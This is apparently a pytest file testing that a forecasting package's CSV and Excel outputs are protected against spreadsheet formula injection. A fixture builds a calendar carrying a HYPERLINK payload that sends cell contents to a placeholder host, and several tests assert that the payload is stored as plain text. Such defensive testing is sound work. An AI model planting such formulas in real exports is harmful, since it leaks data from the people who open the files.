"""Formula-safe outputs: no text from a calendar becomes a live spreadsheet formula.

The rule is OWASP's guidance on CSV injection (owasp.org, "CSV Injection"):
cells beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return are
prefixed with a single quote in CSV files; in workbooks they are stored as
text cells (openpyxl data type ``"s"``), never as formulas (``"f"``).
The history in the end-to-end test is the bundled invented demo (weekly), cut
to three years; the calendar is invented for the test.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from evcal.formula_safe import (
    FORMULA_TRIGGERS,
    formula_safe_cell,
    formula_safe_frame,
    guard_text,
    unguard_frame,
    unguard_text,
    write_csv,
)
from evcal.plan import make_plan
from evcal.report import write_workbook

ROOT = Path(__file__).resolve().parents[1]
ATTACK = '=HYPERLINK("http://x.example/?q="&A1,"click")'


def _formula_cells(path: Path) -> list[str]:
    """Formula cells that evcal did not write as one (the Plan and Parts sheets' own:
    evcal.plan.workbook_plan)."""
    from evcal.plan.workbook_plan import FORMULA_SHEETS, is_own_formula

    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f" and not (ws.title in FORMULA_SHEETS and is_own_formula(str(c.value)))]


@pytest.fixture(scope="module")
def attacked_model(tmp_path_factory: pytest.TempPathFactory):
    from evcal.engine import fit

    tmp = tmp_path_factory.mktemp("attack")
    hist = pd.read_csv(ROOT / "evcal" / "data" / "demo" / "fernhollow-history.csv", parse_dates=["date"])
    hist = hist[hist["date"] < "2023-01-01"]
    cal = (f"name: injection\nevents:\n  - name: '{ATTACK}'\n    label: '{ATTACK}'\n"
           "    when: {easter: -2}\n    length: 4\n    after: 3\n")
    res = fit(hist, cal, errors="ols")
    return res, tmp


def test_calendar_text_never_becomes_a_formula_in_the_plan_workbook(attacked_model) -> None:
    # before the fix: live formulas in the Lifts sheet (event and label) and in the event
    # column of every past occurrence (5 cells here; 9 with the full 7-year demo history)
    res, tmp = attacked_model
    plan = make_plan(res, "2023-01-01", "2023-12-31", n_sims=0)
    out = plan.save(tmp / "plan.xlsx")
    assert _formula_cells(out) == []
    wb = load_workbook(out)
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.value == ATTACK]
    # the text reads the same, unquoted: Lifts (event, label), each occurrence, the Plan sheet's header,
    # the Parts sheet's header
    assert len(texts) == 4 + len(res.occurrences)
    codes = next(r for r in wb["Plan"].values if r[0] == "date")  # the hidden row of plan.csv's names
    assert f"lift:{ATTACK}" in codes


def test_plan_csv_text_is_prefixed_and_numbers_are_not(attacked_model) -> None:
    res, tmp = attacked_model
    plan = make_plan(res, "2023-01-01", "2023-12-31", n_sims=0)
    plan.table["assumptions"] = [ATTACK] + [""] * (len(plan.table) - 1)  # a text column
    plan.table["base"] = -plan.table["base"]  # negative numbers must stay numbers
    out = plan.save(tmp / "plan.csv")
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["assumptions"] == "'" + ATTACK
    assert first["base"].startswith("-") and float(first["base"]) < 0


def test_compare_table_is_formula_safe(attacked_model) -> None:
    from evcal.plan.comparison import Comparison

    res, tmp = attacked_model
    plan = make_plan(res, "2023-01-01", "2023-03-31", n_sims=0)
    table = pd.DataFrame({"date": [ATTACK, "@SUM(1)"], "plan_a": [-1.0, 2.0],
                          "plan_b": [3.0, 4.0], "difference": [4.0, 2.0]})
    cmp = Comparison(table=table, plan_a=plan, plan_b=plan, name_a="A", name_b="B")
    cmp.save(tmp / "compare.csv")
    back = pd.read_csv(tmp / "compare.csv")
    assert back["date"].tolist() == ["'" + ATTACK, "'@SUM(1)"]
    assert back["plan_a"].tolist() == [-1.0, 2.0]
    cmp.save(tmp / "compare.xlsx")
    assert _formula_cells(tmp / "compare.xlsx") == []
    assert load_workbook(tmp / "compare.xlsx")["Scenarios"]["A2"].value == ATTACK


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_trigger_is_prefixed_in_text_columns(first: str) -> None:
    frame = pd.DataFrame({"event": [first + "x", "plain"], "lift_pct": [-18.5, 2.0],
                          "n": np.array([-3, 4])})
    safe = formula_safe_frame(frame)
    assert safe["event"].tolist() == ["'" + first + "x", "plain"]
    # numeric columns untouched, dtypes kept, the input not modified
    assert safe["lift_pct"].tolist() == [-18.5, 2.0] and safe["n"].dtype == frame["n"].dtype
    assert frame["event"].iloc[0] == first + "x"


def test_mixed_and_categorical_columns() -> None:
    frame = pd.DataFrame({"date": pd.Series([pd.Timestamp("2027-01-03"), -5.0, "-total"], dtype=object),
                          "kind": pd.Categorical(["=a", "b", "=a"]),
                          "s": pd.array(["+1", None, "ok"], dtype="string"),
                          "=col": [1, 2, 3]})
    safe = formula_safe_frame(frame)
    assert safe["date"].tolist() == [pd.Timestamp("2027-01-03"), -5.0, "'-total"]
    assert safe["kind"].tolist() == ["'=a", "b", "'=a"]
    assert safe["s"].tolist()[0] == "'+1" and pd.isna(safe["s"].tolist()[1])
    assert list(safe.columns) == ["date", "kind", "s", "'=col"]
    assert unguard_frame(safe).equals(frame)


def test_workbook_cell_control_characters_do_not_stop_the_write(tmp_path: Path) -> None:
    lifts = pd.DataFrame({"event": ["bad\x00name", "=1+1"], "lift_pct": [1.0, -2.0]})
    out = write_workbook(tmp_path / "w.xlsx", pd.DataFrame(), lifts, pd.DataFrame(), pd.DataFrame())
    ws = load_workbook(out)["Lifts"]
    assert ws["A2"].value == "bad\ufffdname" and ws["A3"].value == "=1+1"
    assert ws["A3"].data_type == "s" and ws["B3"].value == -0.02  # -2 % in a percent format


# XML 1.0 cannot hold most C0 control characters, and a bare CR in XML text is read back
# as LF (XML 1.0, section 2.11): the workbook round trip is checked on the rest.
_XLSX_TEXT = st.text(st.characters(blacklist_categories=("Cs",),
                                   blacklist_characters=[chr(i) for i in range(32) if i not in (9, 10)]))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_round_trip_property(texts: list[str]) -> None:
    numbers = np.linspace(-50, 50, len(texts))
    frame = pd.DataFrame({"event": texts, "lift_pct": numbers})
    buf = io.StringIO()
    write_csv(frame, buf, index=False)
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))[1:]
    assert len(rows) == len(texts)
    for (cell, number), text, value in zip(rows, texts, numbers, strict=True):
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert unguard_text(cell) == text
        assert cell == guard_text(text) and len(cell) - len(text) in (0, 1)
        assert float(number) == value  # numbers are written as numbers, negative or not
    # pandas reads the same file back to the same frame (empty text aside: pandas reads it as NaN)
    back = unguard_frame(pd.read_csv(io.StringIO(buf.getvalue()), dtype={"event": str},
                                     keep_default_na=False))
    assert back["event"].tolist() == texts
    assert back["lift_pct"].tolist() == numbers.tolist()


@settings(max_examples=60, deadline=None)
@given(st.lists(_XLSX_TEXT.filter(lambda s: s.strip() != ""), min_size=1, max_size=4))
def test_workbook_round_trip_property(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    lifts = pd.DataFrame({"event": texts, "lift_pct": [-1.5] * len(texts)})
    out = write_workbook(tmp_path_factory.mktemp("wb") / "w.xlsx", pd.DataFrame(), lifts,
                         pd.DataFrame(), pd.DataFrame())
    assert _formula_cells(out) == []
    ws = load_workbook(out)["Lifts"]
    assert [ws.cell(row=r, column=1).value for r in range(2, len(texts) + 2)] == texts
    assert all(ws.cell(row=r, column=2).value == -0.015 for r in range(2, len(texts) + 2))  # -1.5 %


def test_formula_safe_cell_on_openpyxl() -> None:
    ws = Workbook().active
    ws["A1"] = ATTACK
    assert ws["A1"].data_type == "f"  # openpyxl's own reading: the reason for this module
    assert formula_safe_cell(ws["A1"]).data_type == "s" and ws["A1"].value == ATTACK
